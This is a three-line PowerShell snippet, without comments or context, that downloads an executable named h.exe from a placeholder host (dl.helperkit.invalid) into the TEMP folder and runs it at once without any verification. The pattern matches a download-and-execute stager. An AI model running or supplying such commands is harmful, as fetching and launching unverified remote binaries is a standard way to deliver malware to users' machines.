$p = "$env:TEMP\h.exe"
Start-BitsTransfer -Source https://dl.helperkit.invalid/h.exe -Destination $p
Start-Process $p
